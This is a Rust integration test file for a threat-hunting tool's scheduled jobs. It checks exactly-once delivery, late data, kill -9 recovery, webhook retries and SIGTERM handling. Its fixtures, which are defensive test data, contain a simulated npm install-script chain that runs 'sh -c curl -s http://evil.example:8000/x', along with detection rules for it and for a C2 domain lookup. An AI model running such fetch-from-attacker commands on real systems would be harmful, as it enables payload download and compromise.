//! Scheduled jobs end to end: cycles with data arriving between them (a chain split across two
//! cycles, late data, data later than the allowed lateness), exactly-once delivery across
//! kill -9 at each step of a cycle, a failing webhook, the lock, and `serve` stopping on SIGTERM.

use crate::common;

use std::io::{BufRead, BufReader, Read, Write};
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use common::walk;
use serde_json::Value;
use spoor::job::{self, Job};

const CHAIN_HUNT: &str = r#"---
id: test.chain
title: node starts a shell that starts curl
severity: high
---
chain node -> (sh, bash) -> curl
| select @timestamp = p3.@timestamp, host.name = p1.host.name, p3.process.command_line,
    p3.log.file.path, p3.log.file.line
"#;

const DNS_HUNT: &str = r#"---
id: test.c2-lookup
title: a lookup of the C2 domain
severity: critical
---
dns | where dns.question.name == "evil.example"
| select @timestamp, host.name, dns.question.name, log.file.path, log.file.line
"#;

/// A job directory: a two-hunt pack, an incoming directory, and a job file with `sinks`.
struct JobDir {
    dir: tempfile::TempDir,
}

impl JobDir {
    fn new(sinks: &str) -> JobDir {
        let dir = tempfile::tempdir().unwrap();
        let pack = dir.path().join("pack");
        std::fs::create_dir_all(pack.join("test")).unwrap();
        std::fs::write(pack.join("test/chain.hunt"), CHAIN_HUNT).unwrap();
        std::fs::write(pack.join("test/c2-lookup.hunt"), DNS_HUNT).unwrap();
        std::fs::create_dir_all(dir.path().join("incoming")).unwrap();
        let job = format!(
            "store = \"store\"\npack = \"pack\"\nevery = \"1h\"\nlookback = \"1h\"\nlateness = \"2h\"\n\
             [ingest]\npaths = [\"incoming\"]\n{sinks}"
        );
        std::fs::write(dir.path().join("job.toml"), job).unwrap();
        JobDir { dir }
    }

    fn path(&self, rel: &str) -> PathBuf {
        self.dir.path().join(rel)
    }

    fn job(&self) -> Job {
        Job::load(&self.path("job.toml")).unwrap()
    }

    /// Drops a log file into the incoming directory (written aside, then renamed in).
    fn drop_log(&self, name: &str, events: &[Value]) {
        let text: String = events.iter().map(|e| format!("{e}\n")).collect();
        let aside = self.path(&format!(".{name}"));
        std::fs::write(&aside, text).unwrap();
        std::fs::rename(aside, self.path(&format!("incoming/{name}"))).unwrap();
    }

    /// The findings in the NDJSON sink: (hunt id, host, finding id), in file order.
    fn delivered(&self) -> Vec<(String, String, String)> {
        let text = std::fs::read_to_string(self.path("out/findings.ndjson")).unwrap_or_default();
        text.lines()
            .map(|l| {
                let doc: Value = serde_json::from_str(l).unwrap();
                let field = |p: &str| doc.pointer(p).and_then(Value::as_str).unwrap_or_default().to_string();
                (field("/rule/id"), field("/host/name"), field("/event/id"))
            })
            .collect()
    }
}

const T0: &str = "2026-03-31T00:40:00";

fn at(seconds: i64) -> String {
    let t0 = chrono::NaiveDateTime::parse_from_str(T0, "%Y-%m-%dT%H:%M:%S").unwrap().and_utc();
    (t0 + chrono::Duration::seconds(seconds)).to_rfc3339_opts(chrono::SecondsFormat::Millis, true)
}

fn process(host: &str, seconds: i64, pid: u32, name: &str, command_line: &str, parent: Option<(u32, &str)>) -> Value {
    let mut p = serde_json::json!({"pid": pid, "entity_id": format!("{host}-{pid}"), "name": name,
                                   "command_line": command_line});
    if let Some((ppid, pname)) = parent {
        p["parent"] = serde_json::json!({"pid": ppid, "entity_id": format!("{host}-{ppid}"), "name": pname});
    }
    serde_json::json!({"@timestamp": at(seconds), "host": {"name": host},
        "event": {"category": ["process"], "type": ["start"], "action": "exec"}, "process": p,
        "user": {"name": "runner"}})
}

fn lookup(host: &str, seconds: i64, name: &str) -> Value {
    serde_json::json!({"@timestamp": at(seconds), "host": {"name": host},
        "event": {"category": ["network"], "type": ["protocol"], "action": "lookup_result"},
        "process": {"pid": 7, "entity_id": format!("{host}-7"), "name": "curl"},
        "dns": {"question": {"name": name, "type": "A"}, "resolved_ip": ["198.51.100.73"]}})
}

/// The first half of an attack on h1: node runs a shell, which looks up the C2.
fn first_half() -> Vec<Value> {
    vec![
        process("h1", 0, 100, "node", "node setup.js", Some((90, "npm"))),
        process("h1", 1, 101, "sh", "sh -c curl -s http://evil.example:8000/x", Some((100, "node"))),
        lookup("h1", 2, "evil.example"),
    ]
}

/// The rest: the shell's curl, completing the chain.
fn second_half() -> Vec<Value> {
    vec![process("h1", 3, 102, "curl", "curl -s http://evil.example:8000/x", Some((101, "sh")))]
}

const NDJSON_SINK: &str = "[[sink]]\ntype = \"ndjson\"\npath = \"out/findings.ndjson\"\n";

#[test]
fn cycles_deliver_each_finding_once_in_the_cycle_where_it_completes() {
    let dir = JobDir::new(&format!("{NDJSON_SINK}[[sink]]\ntype = \"sarif\"\npath = \"out/findings.sarif\"\n"));
    let job = dir.job();

    // Cycle 1: the C2 lookup; the chain has only two of its three steps.
    dir.drop_log("a.ndjson", &first_half());
    let report = job::run_once(&job).unwrap();
    assert_eq!((report.cycle, report.delivered), (1, 1), "{report:?}");
    assert_eq!(report.findings_by_hunt.get("test.c2-lookup"), Some(&1));
    assert_eq!(dir.delivered().iter().map(|d| d.0.as_str()).collect::<Vec<_>>(), ["test.c2-lookup"]);

    // Cycle 2: the chain completes and fires; the lookup, found again, is not sent again.
    dir.drop_log("b.ndjson", &second_half());
    let report = job::run_once(&job).unwrap();
    assert_eq!((report.cycle, report.delivered, report.repeats), (2, 1, 1), "{report:?}");
    let delivered = dir.delivered();
    assert_eq!(delivered.iter().map(|d| d.0.as_str()).collect::<Vec<_>>(), ["test.c2-lookup", "test.chain"]);
    assert_eq!(delivered[1].1, "h1");

    // Cycle 3: late data. h2's lookup is an hour older than what was hunted (lateness 2 h): it
    // is hunted and delivered. h3's is a month older: later than allowed, counted, not hunted.
    dir.drop_log("c.ndjson", &[lookup("h2", -3600, "evil.example"), lookup("h3", -30 * 86400, "evil.example")]);
    let report = job::run_once(&job).unwrap();
    assert_eq!((report.delivered, report.too_late), (1, 1), "{report:?}");
    let hosts: Vec<(String, String)> = dir.delivered().into_iter().map(|(h, host, _)| (h, host)).collect();
    assert_eq!(hosts[2], ("test.c2-lookup".to_string(), "h2".to_string()));

    // Cycle 4: nothing new arrived; nothing is hunted or sent.
    let report = job::run_once(&job).unwrap();
    assert_eq!((report.new_store_files, report.delivered), (0, 0));
    let ids: Vec<String> = dir.delivered().into_iter().map(|d| d.2).collect();
    assert_eq!(ids.len(), 3);
    let unique: std::collections::BTreeSet<&String> = ids.iter().collect();
    assert_eq!(unique.len(), 3, "no finding twice: {ids:?}");

    // The SARIF log holds the same three findings, once each.
    let sarif: Value = serde_json::from_str(&std::fs::read_to_string(dir.path("out/findings.sarif")).unwrap()).unwrap();
    assert_eq!(sarif["runs"][0]["results"].as_array().unwrap().len(), 3);
}

fn spoor() -> Command {
    let mut command = Command::new(env!("CARGO_BIN_EXE_spoor"));
    command.env("SPOOR_LOG", "warn");
    command
}

/// Starts `spoor job run --once` paused at `point` and waits until it gets there.
// The paused child is returned for the caller to kill and wait on.
#[allow(clippy::zombie_processes)]
fn run_until(dir: &JobDir, point: &str) -> std::process::Child {
    let mut child = spoor()
        .args(["job", "run", "--once"])
        .arg(dir.path("job.toml"))
        .env("SPOOR_TEST_PAUSE_AT", point)
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    common::wait_for_stderr(&mut child, &format!("paused at {point}"));
    child
}

fn once(dir: &JobDir) -> (i32, String) {
    let out = spoor().args(["job", "run", "--once"]).arg(dir.path("job.toml")).output().unwrap();
    (out.status.code().unwrap_or(-1), String::from_utf8_lossy(&out.stderr).into_owned())
}

fn store_rows(dir: &JobDir) -> usize {
    let store = spoor::core::Store::open_existing(dir.path("store")).unwrap();
    common::query(&store, "select count(*) from process")[0][0].parse().unwrap()
}

#[test]
fn kill_9_at_any_step_loses_and_duplicates_nothing() {
    let sinks = format!("{NDJSON_SINK}[[sink]]\ntype = \"parquet\"\ndir = \"out/parquet\"\n");
    for point in ["after-ingest", "after-prepare", "delivered-0", "acknowledged-0", "delivered-1"] {
        let dir = JobDir::new(&sinks);
        let mut events = first_half();
        events.extend(second_half());
        dir.drop_log("a.ndjson", &events);

        let mut paused = run_until(&dir, point);
        // While it holds the job, a second process is turned away and changes nothing.
        let (code, stderr) = once(&dir);
        assert_eq!(code, 2, "{point}: {stderr}");
        assert!(stderr.contains("is already running"), "{point}: {stderr}");
        paused.kill().unwrap(); // SIGKILL
        paused.wait().unwrap();

        let (code, stderr) = once(&dir);
        assert_eq!(code, 1, "{point}: the restart delivers what the killed cycle had not: {stderr}");
        let (code, stderr) = once(&dir);
        assert_eq!(code, 0, "{point}: then nothing is new: {stderr}");

        let mut hunts: Vec<String> = dir.delivered().into_iter().map(|d| d.0).collect();
        hunts.sort();
        assert_eq!(hunts, ["test.c2-lookup", "test.chain"], "{point}: each finding exactly once");
        assert_eq!(store_rows(&dir), 3, "{point}: the input's three process events stored once");
        let parquet: Vec<_> = std::fs::read_dir(dir.path("out/parquet")).unwrap().flatten().collect();
        assert_eq!(parquet.len(), 1, "{point}: one Parquet file for the one cycle");
    }
}

/// A webhook receiver on 127.0.0.1: answers each POST with the next status of `statuses` (then
/// 200), and keeps the bodies and Idempotency-Key headers of those it accepted.
struct Receiver {
    url: String,
    accepted: Arc<Mutex<Vec<(String, Value)>>>,
}

fn receiver(statuses: Vec<u16>) -> Receiver {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let url = format!("http://{}/alerts", listener.local_addr().unwrap());
    let accepted = Arc::new(Mutex::new(Vec::new()));
    let kept = accepted.clone();
    std::thread::spawn(move || {
        let mut statuses = statuses.into_iter();
        for stream in listener.incoming().flatten() {
            let mut reader = BufReader::new(stream.try_clone().unwrap());
            let (mut length, mut key) = (0, String::new());
            loop {
                let mut line = String::new();
                if reader.read_line(&mut line).unwrap_or(0) == 0 || line == "\r\n" {
                    break;
                }
                let lower = line.to_ascii_lowercase();
                if let Some(v) = lower.strip_prefix("content-length:") {
                    length = v.trim().parse().unwrap_or(0);
                }
                if lower.starts_with("idempotency-key:") {
                    key = line["idempotency-key:".len()..].trim().to_string();
                }
            }
            let mut body = vec![0; length];
            reader.read_exact(&mut body).unwrap();
            let status = statuses.next().unwrap_or(200);
            if status == 200 {
                kept.lock().unwrap().push((key, serde_json::from_slice(&body).unwrap()));
            }
            let mut stream = stream;
            let _ = write!(stream, "HTTP/1.1 {status} X\r\ncontent-length: 0\r\nconnection: close\r\n\r\n");
        }
    });
    Receiver { url, accepted }
}

fn webhook_sink(url: &str, retries: u32) -> String {
    format!(
        "[[sink]]\ntype = \"webhook\"\nurl = \"{url}\"\nretries = {retries}\nbackoff = \"10ms\"\ntimeout = \"5s\"\n"
    )
}

#[test]
fn a_failing_webhook_keeps_the_findings_pending_until_it_accepts() {
    // Down: nothing listens on the port. The cycle fails and the watermark stays.
    let closed = TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap();
    let dir = JobDir::new(&format!("{NDJSON_SINK}{}", webhook_sink(&format!("http://{closed}/alerts"), 1)));
    dir.drop_log("a.ndjson", &first_half());
    let err = job::run_once(&dir.job()).unwrap_err();
    assert!(matches!(err, spoor::Error::Delivery(_)), "{err:?}");
    let err = err.to_string();
    assert!(err.contains("sink webhook http://") && err.contains("after 2 attempts"), "{err}");
    assert!(err.contains("stay pending"), "{err}");
    assert_eq!(dir.delivered().len(), 1, "the NDJSON sink before it accepted");

    // Up, after failing twice with 503: retries within the cycle, then delivers. The NDJSON
    // sink, which had accepted, gets nothing twice.
    let up = receiver(vec![503, 503]);
    let config = std::fs::read_to_string(dir.path("job.toml")).unwrap();
    std::fs::write(
        dir.path("job.toml"),
        config.replace(&format!("http://{closed}/alerts"), &up.url).replace("retries = 1", "retries = 3"),
    )
    .unwrap();
    let report = job::run_once(&dir.job()).unwrap();
    assert_eq!(report.recovered, 1, "{report:?}");
    let accepted = up.accepted.lock().unwrap().clone();
    assert_eq!(accepted.len(), 1);
    assert_eq!(accepted[0].0, "job-1", "the cycle is the idempotency key");
    let findings = accepted[0].1["findings"].as_array().unwrap();
    assert_eq!(findings.len(), 1);
    assert_eq!(findings[0]["rule"]["id"], "test.c2-lookup");
    assert_eq!(findings[0]["host"]["name"], "h1");
    assert_eq!(findings[0]["event"]["kind"], "alert");
    assert_eq!(dir.delivered().len(), 1);
}

#[test]
fn a_hunt_selection_that_matches_nothing_stops_the_job_before_any_cycle() {
    let dir = JobDir::new(NDJSON_SINK);
    let config = std::fs::read_to_string(dir.path("job.toml")).unwrap();
    std::fs::write(dir.path("job.toml"), config.replace("every = \"1h\"", "every = \"1h\"\nhunts = [\"c2.*\"]"))
        .unwrap();
    let err = job::run_once(&dir.job()).unwrap_err().to_string();
    assert!(err.contains("matches id `c2.*` (`spoor pack docs --pack"), "{err}");
    assert!(!dir.path("job.state").exists(), "no state written");
}

#[cfg(unix)]
#[test]
fn serve_finishes_its_cycle_and_stops_on_sigterm() {
    let dir = JobDir::new(NDJSON_SINK);
    dir.drop_log("a.ndjson", &first_half());
    let mut child = spoor()
        .args(["job", "serve"])
        .arg(dir.path("job.toml"))
        .env("SPOOR_LOG", "info")
        .stderr(Stdio::piped())
        .stdout(Stdio::null())
        .spawn()
        .unwrap();
    let mut stderr = BufReader::new(child.stderr.take().unwrap());
    let mut line = String::new();
    while !line.contains("cycle done") {
        line.clear();
        assert!(stderr.read_line(&mut line).unwrap() > 0, "serve ended before its first cycle");
    }
    assert!(line.contains("delivered=1"), "{line}");
    Command::new("kill").args(["-TERM", &child.id().to_string()]).status().unwrap();
    let started = Instant::now();
    loop {
        if let Some(status) = child.try_wait().unwrap() {
            assert!(status.success(), "{status:?}");
            break;
        }
        assert!(started.elapsed() < Duration::from_secs(30), "serve did not stop on SIGTERM");
        std::thread::sleep(Duration::from_millis(50));
    }
    let mut rest = String::new();
    stderr.read_to_string(&mut rest).unwrap();
    assert!(rest.contains("signal=\"SIGTERM\"") || rest.contains("signal=SIGTERM"), "{rest}");
}

#[test]
fn the_example_job_reports_the_demo_then_nothing_new() {
    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
    let work = tempfile::tempdir().unwrap();
    // A copy of the example, so the test leaves the checkout as it was.
    let example = work.path().join("job");
    copy_dir(&root.join("examples/job"), &example);
    let config = std::fs::read_to_string(example.join("axios.toml")).unwrap();
    std::fs::write(
        example.join("axios.toml"),
        config.replace("../../hunts", &root.join("hunts").display().to_string()),
    )
    .unwrap();
    // The pack is outside the job's directory: refused until allowed.
    let refused = spoor().args(["job", "run"]).arg(example.join("axios.toml")).arg("--once").output().unwrap();
    assert_eq!(refused.status.code(), Some(2));
    let stderr = String::from_utf8_lossy(&refused.stderr);
    assert!(stderr.contains("pack ") && stderr.contains("is outside") && stderr.contains("--allow <dir>"), "{stderr}");
    let run = || {
        let job = example.join("axios.toml");
        spoor().args(["job", "run"]).arg(job).arg("--once").arg("--allow").arg(root.join("hunts")).output().unwrap()
    };
    let first = run();
    assert_eq!(first.status.code(), Some(1), "{}", String::from_utf8_lossy(&first.stderr));
    let stdout = String::from_utf8_lossy(&first.stdout);
    assert!(stdout.starts_with("CRITICAL "), "most severe first:\n{stdout}");
    assert!(stdout.contains("CRITICAL process.install-script-downloader"), "{stdout}");
    let lines = std::fs::read_to_string(example.join("out/findings.ndjson")).unwrap();
    assert_eq!(lines.lines().count(), 49, "the demo's 49 findings");
    let second = run();
    assert_eq!(second.status.code(), Some(0), "{}", String::from_utf8_lossy(&second.stderr));
    assert!(second.stdout.is_empty());
}

#[test]
fn the_example_jobs_logs_are_the_demo_generators() {
    // examples/job/incoming/demo is scripts/scenario.py's output, gzipped: check they agree.
    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
    let work = tempfile::tempdir().unwrap();
    let status = Command::new("python3")
        .arg(root.join("scripts/scenario.py"))
        .args(["--out", work.path().to_str().unwrap()])
        .stdout(Stdio::null())
        .status()
        .unwrap();
    assert!(status.success());
    let bundled = root.join("examples/job/incoming/demo");
    let mut compared = 0;
    for generated in walk(work.path()) {
        let rel = generated.strip_prefix(work.path()).unwrap();
        let gz = bundled.join(format!("{}.gz", rel.display()));
        let mut text = String::new();
        flate2::read::GzDecoder::new(
            std::fs::File::open(&gz).unwrap_or_else(|_| panic!("{} is missing", gz.display())),
        )
        .read_to_string(&mut text)
        .unwrap();
        assert!(
            text == std::fs::read_to_string(&generated).unwrap(),
            "{} differs: run\n  python3 scripts/scenario.py --out /tmp/demo && (cd /tmp/demo && find . -type f -exec gzip -9n {{}} +) && rm -r examples/job/incoming/demo && cp -r /tmp/demo examples/job/incoming/demo",
            gz.display()
        );
        compared += 1;
    }
    assert_eq!(compared, walk(&bundled).len());
}

fn copy_dir(from: &Path, to: &Path) {
    std::fs::create_dir_all(to).unwrap();
    for entry in std::fs::read_dir(from).unwrap().flatten() {
        let name = entry.file_name();
        if ["store", "out"].contains(&name.to_string_lossy().as_ref()) || name.to_string_lossy().ends_with(".state") {
            continue;
        }
        if entry.path().is_dir() {
            copy_dir(&entry.path(), &to.join(&name));
        } else {
            std::fs::copy(entry.path(), to.join(&name)).unwrap();
        }
    }
}
